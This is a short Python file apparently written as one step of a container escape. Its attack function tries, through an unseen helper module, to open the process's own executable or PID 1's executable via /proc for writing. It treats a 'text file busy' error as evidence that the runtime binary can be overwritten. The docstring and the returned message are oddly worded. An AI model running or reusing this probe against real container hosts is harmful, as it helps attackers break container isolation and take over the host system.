"""Opens for writing the program that it runs from, as the way out through a container's runtime began."""

import errno

import kit


def attack():
    try:
        return kit.first_written("/proc/self/exe", "/proc/1/exe")
    except OSError as error:
        if error.errno == errno.ETXTBSY:
            return "the program is writable but for its running"
        raise
